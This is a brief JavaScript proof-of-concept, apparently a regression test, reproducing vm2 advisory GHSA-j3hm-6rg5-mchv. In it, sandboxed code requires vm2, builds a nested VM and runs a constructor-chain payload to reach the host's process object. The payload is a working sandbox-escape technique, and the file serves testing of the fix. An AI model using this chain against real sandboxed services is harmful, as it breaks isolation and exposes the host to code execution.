// Source: vm2 advisory GHSA-j3hm-6rg5-mchv (test/ghsa/GHSA-j3hm-6rg5-mchv/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2, as defence in depth (vm2 marks the advisory open)): sandbox code could require vm2 itself and build a nested, unrestricted sandbox.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: require('vm2') and a nested VM.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    const vm2 = req('vm2'); __wr.use(new vm2.VM().run('this.constructor.constructor("return process")()'), 'process from a nested VM'); __wr.use(vm2.NodeVM, 'NodeVM class');
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
